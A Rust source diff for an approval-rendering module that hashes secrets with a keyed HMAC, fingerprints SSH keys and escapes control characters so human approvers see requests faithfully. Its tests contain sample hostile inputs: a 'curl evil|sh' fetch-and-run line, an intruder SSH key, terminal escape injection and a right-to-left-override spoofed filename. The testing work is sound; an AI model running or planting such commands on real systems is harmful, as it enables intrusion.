@@ -7,10 +7,13 @@
 //!   URL-encoded `sshkeys` too) are shown as type, SHA256 fingerprint and
 //!   comment: `ssh-keys[ssh-ed25519 SHA256:… "alice@laptop"]`. A request
 //!   that installs an intruder's key must not read like a good one.
-//! - **Secrets** (values of fields named like passwords, tokens, keys)
-//!   are shown as set or unset, with their length and a short hash, so
-//!   two requests can be compared without the secret being shown:
-//!   `password=set(12 chars, sha256:9f86d081)`.
+//! - **Secrets** (values of fields named like passwords, tokens, keys; a
+//!   secret-named object or list whole) are shown as set or unset, with
+//!   their length and a short keyed hash, so two requests can be compared
+//!   without the secret being shown: `password=set(12 chars,
+//!   hmac:9f86d081)`. The hash is keyed by a secret of the deployment's
+//!   state ([`SummaryKey`]): whoever reads approval rows cannot test
+//!   guesses of a PIN or a dictionary password against it.
 //! - **Everything else in full.** A string longer than [`LONG_CHARS`] is
 //!   shown in full in [`Rendered::full`] (`airlock approvals show ID`)
 //!   and summarised in [`Rendered::short`] (lists, prompts, errors) by its
@@ -26,9 +29,36 @@
 //! other string is quoted, so `vmid=101` is a number and `vmid="101"` a
 //! string, and no value can pose as another `key=value` pair.
 
+use hmac::{Hmac, Mac};
 use serde_json::{Map, Value};
+use sha2::Sha256;
 
 use crate::{digest::sha256_hex, redact::is_secret, ssh_keys, visible::must_escape};
+
+/// The key of the short hashes secrets are shown by: 32 random bytes kept
+/// with the approvals (one per deployment, so every replica shows a
+/// secret alike), never shown.
+#[derive(Clone)]
+pub struct SummaryKey([u8; 32]);
+
+impl SummaryKey {
+    pub fn new(bytes: [u8; 32]) -> Self {
+        Self(bytes)
+    }
+
+    /// The first 8 hex digits of HMAC-SHA256(key, `value`).
+    fn tag(&self, value: &str) -> String {
+        let mut mac = Hmac::<Sha256>::new_from_slice(&self.0).expect("HMAC takes any key length");
+        mac.update(value.as_bytes());
+        hex::encode(&mac.finalize().into_bytes()[..4])
+    }
+}
+
+impl std::fmt::Debug for SummaryKey {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        f.write_str("SummaryKey(…)")
+    }
+}
 
 /// The longest short form, in characters (lists, prompts, errors).
 pub const MAX_SUMMARY_CHARS: usize = 2_000;
@@ -62,14 +92,16 @@ pub struct Rendered {
     pub full: Option<String>,
 }
 
-/// The approver's rendering of `args`, or [`TooLong`].
-pub fn summarize(args: &Value) -> Result<Rendered, TooLong> {
-    summarize_within(args, MAX_SUMMARY_CHARS, MAX_DETAIL_CHARS)
+/// The approver's rendering of `args`, secrets hashed with `key`, or
+/// [`TooLong`].
+pub fn summarize(args: &Value, key: &SummaryKey) -> Result<Rendered, TooLong> {
+    summarize_within(args, key, MAX_SUMMARY_CHARS, MAX_DETAIL_CHARS)
 }
 
 /// [`summarize`] with other bounds (tests).
 pub fn summarize_within(
     args: &Value,
+    key: &SummaryKey,
     short_limit: usize,
     full_limit: usize,
 ) -> Result<Rendered, TooLong> {
@@ -77,6 +109,7 @@ pub fn summarize_within(
         short: Out::new(short_limit, "in a list"),
         full: Out::new(full_limit, "in full"),
         summarised: false,
+        key,
     };
     match args {
         Value::Object(map) => r.entries(map, true)?,
@@ -130,14 +163,15 @@ impl Out {
     }
 }
 
-struct Renderer {
+struct Renderer<'k> {
     short: Out,
     full: Out,
     /// The short form summarised a long value.
     summarised: bool,
+    key: &'k SummaryKey,
 }
 
-impl Renderer {
+impl Renderer<'_> {
     /// The same text into both forms.
     fn push(&mut self, s: &str) -> Result<(), TooLong> {
         self.short.push(s)?;
@@ -190,6 +224,9 @@ impl Renderer {
                 }
                 self.push("]")
             }
+            // A secret-named object is secret whole, whatever its members
+            // are called.
+            Value::Object(_) if secret => self.secret(&v.to_string()),
             Value::Object(map) => {
                 self.push("{")?;
                 self.entries(map, false)?;
@@ -208,7 +245,7 @@ impl Renderer {
             });
         }
         if let Some(keys) = ssh_keys::parse(s) {
-            return self.keys(&keys);
+            return self.keys(&keys, s);
         }
         if secret {
             return self.secret(s);
@@ -223,17 +260,18 @@ impl Renderer {
             return self.push(&shown);
         }
         self.summarised = true;
+        // The head is quoted whole and closed: nothing in it can read as
+        // anything outside it.
         let head: String = s.chars().take(HEAD_CHARS).collect();
         let head = quoted(&head, HEAD_CHARS)?;
         self.short.push(&format!(
-            "{}… ({chars} chars, sha256:{}; in full: approvals show)",
-            head.strip_suffix('"').unwrap_or(&head),
+            "{head}…({chars} chars, sha256:{}; in full: approvals show)",
             &sha256_hex(s.as_bytes())[..8]
         ))?;
         self.full.push(&shown)
     }
 
-    /// `set(12 chars, sha256:…)`: enough to tell two values apart and to
+    /// `set(12 chars, hmac:…)`: enough to tell two values apart and to
     /// see one is set, nothing of the value.
     fn secret(&mut self, s: &str) -> Result<(), TooLong> {
         let chars = s.chars().count();
@@ -241,28 +279,41 @@ impl Renderer {
             "set(empty)".to_string()
         } else {
             format!(
-                "set({chars} char{}, sha256:{})",
+                "set({chars} char{}, hmac:{})",
                 if chars == 1 { "" } else { "s" },
-                &sha256_hex(s.as_bytes())[..8]
+                self.key.tag(s)
             )
         };
         self.push(&shown)
     }
 
-    fn keys(&mut self, keys: &[ssh_keys::PublicKey]) -> Result<(), TooLong> {
+    /// Keys by type, fingerprint and comment, and every `#` line of the
+    /// text quoted in place; the full form adds the text as written.
+    fn keys(&mut self, lines: &[ssh_keys::Line], raw: &str) -> Result<(), TooLong> {
         self.push("ssh-keys[")?;
-        for (i, k) in keys.iter().enumerate() {
+        for (i, line) in lines.iter().enumerate() {
             if i > 0 {
                 self.push(", ")?;
             }
-            if !k.options.is_empty() {
-                let options = quoted(&k.options, self.full.limit)?;
-                self.push(&format!("options={options} "))?;
+            match line {
+                ssh_keys::Line::Key(k) => {
+                    if !k.options.is_empty() {
+                        let options = quoted(&k.options, self.full.limit)?;
+                        self.push(&format!("options={options} "))?;
+                    }
+                    let comment = quoted(&k.comment, self.full.limit)?;
+                    self.push(&format!("{} {} {comment}", k.kind, k.fingerprint))?;
+                }
+                ssh_keys::Line::Comment(c) => {
+                    let c = quoted(c, self.full.limit)?;
+                    self.push(&format!("comment {c}"))?;
+                }
             }
-            let comment = quoted(&k.comment, self.full.limit)?;
-            self.push(&format!("{} {} {comment}", k.kind, k.fingerprint))?;
         }
-        self.push("]")
+        self.push("]")?;
+        self.summarised = true;
+        let raw = quoted(raw, self.full.limit)?;
+        self.full.push(&format!(" as written: {raw}"))
     }
 }
 
@@ -306,8 +357,12 @@ mod tests {
     use base64::Engine;
     use serde_json::json;
 
+    fn key() -> SummaryKey {
+        SummaryKey::new([7; 32])
+    }
+
     fn short(args: &Value) -> String {
-        summarize(args).unwrap().short
+        summarize(args, &key()).unwrap().short
     }
 
     #[test]
@@ -320,24 +375,27 @@ mod tests {
             short(&json!({"vmid": "101", "force": "true", "note": "a, b=c"})),
             r#"force="true", note="a, b=c", vmid="101""#
         );
-        assert_eq!(summarize(&json!({"vmid": 101})).unwrap().full, None);
+        assert_eq!(summarize(&json!({"vmid": 101}), &key()).unwrap().full, None);
     }
 
     #[test]
     fn escapes_shows_secrets_as_set_and_sorts() {
-        let r = summarize(&json!({
-            "description": "nice\u{1b}[2K\u{1b}[1A\rharmless",
-            "name": "web\u{202e}gpj.exe",
-            "config": {"password": "hunter2", "user": "root", "inner": [{"api_key": "k"}]},
-            "password": "x",
-            "token": null,
-        }))
+        let r = summarize(
+            &json!({
+                "description": "nice\u{1b}[2K\u{1b}[1A\rharmless",
+                "name": "web\u{202e}gpj.exe",
+                "config": {"password": "hunter2", "user": "root", "inner": [{"api_key": "k"}]},
+                "password": "x",
+                "token": null,
+            }),
+            &key(),
+        )
         .unwrap();
-        let h = |s: &str| sha256_hex(s.as_bytes())[..8].to_string();
+        let h = |s: &str| key().tag(s);
         assert_eq!(
             r.short,
             format!(
-                r#"config={{inner=[{{api_key=set(1 char, sha256:{})}}], password=set(7 chars, sha256:{}), user="root"}}, description="nice\u{{1b}}[2K\u{{1b}}[1A\u{{d}}harmless", name="web\u{{202e}}gpj.exe", password=set(1 char, sha256:{}), token=null"#,
+                r#"config={{inner=[{{api_key=set(1 char, hmac:{})}}], password=set(7 chars, hmac:{}), user="root"}}, description="nice\u{{1b}}[2K\u{{1b}}[1A\u{{d}}harmless", name="web\u{{202e}}gpj.exe", password=set(1 char, hmac:{}), token=null"#,
                 h("k"),
                 h("hunter2"),
                 h("x")
@@ -353,7 +411,7 @@ mod tests {
         assert_eq!(
             short(&json!({"api_keys": ["a", "b"]})),
             format!(
-                "api_keys=[set(1 char, sha256:{}), set(1 char, sha256:{})]",
+                "api_keys=[set(1 char, hmac:{}), set(1 char, hmac:{})]",
                 h("a"),
                 h("b")
             )
@@ -370,21 +428,31 @@ mod tests {
         let b64 = base64::engine::general_purpose::STANDARD.encode(&blob);
         let fp = base64::engine::general_purpose::STANDARD_NO_PAD
             .encode(<sha2::Sha256 as sha2::Digest>::digest(&blob));
-        let key = format!("ssh-ed25519 {b64} intruder@evil");
+        let line = format!("ssh-ed25519 {b64} intruder@evil");
         for name in ["ssh-public-keys", "sshkeys", "authorized"] {
-            let s = short(&json!({name: key}));
+            let r = summarize(&json!({name: line}), &key()).unwrap();
             assert_eq!(
-                s,
+                r.short,
                 format!(r#"{name}=ssh-keys[ssh-ed25519 SHA256:{fp} "intruder@evil"]"#)
             );
-            assert!(!s.contains("redacted"));
+            assert!(r
+                .full
+                .unwrap()
+                .ends_with(&format!(r#" as written: "{line}""#)));
         }
+        // A line that is not a key is shown where it stands, never hidden.
+        let script = format!("#!/bin/sh -c 'curl evil|sh'\n{line}");
+        let s = short(&json!({"script": script}));
+        assert!(
+            s.contains(r##"comment "#!/bin/sh -c 'curl evil|sh'""##),
+            "{s}"
+        );
     }
 
     #[test]
     fn long_values_are_summarised_and_shown_in_full_on_request() {
         let user_data = format!("#cloud-config\nruncmd:\n{}", "  - echo hi\n".repeat(100));
-        let r = summarize(&json!({"cicustom": user_data, "vmid": 101})).unwrap();
+        let r = summarize(&json!({"cicustom": user_data, "vmid": 101}), &key()).unwrap();
         let full = r.full.expect("summarised");
         assert!(
             r.short.starts_with("cicustom=\"#cloud-config\\u{a}runcmd"),
@@ -416,7 +484,7 @@ mod tests {
 
         let long = json!({"note": "x".repeat(MAX_DETAIL_CHARS)});
         assert_eq!(
-            summarize(&long),
+            summarize(&long, &key()),
             Err(TooLong {
                 limit: MAX_DETAIL_CHARS,
                 what: "in full"
@@ -426,10 +494,10 @@ mod tests {
         for i in 0..100_000 {
             many.insert(format!("k{i}"), json!(1));
         }
-        let e = summarize(&Value::Object(many)).unwrap_err();
+        let e = summarize(&Value::Object(many), &key()).unwrap_err();
         assert!(e.to_string().contains("2000 characters"), "{e}");
-        assert!(summarize(&json!({"a": vec![0; 1000]})).is_err());
+        assert!(summarize(&json!({"a": vec![0; 1000]}), &key()).is_err());
         // A gigabyte-sized string is refused before it is copied.
-        assert!(summarize(&json!({"a": "x".repeat(MAX_DETAIL_CHARS * 4 + 1)})).is_err());
+        assert!(summarize(&json!({"a": "x".repeat(MAX_DETAIL_CHARS * 4 + 1)}), &key()).is_err());
     }
 }
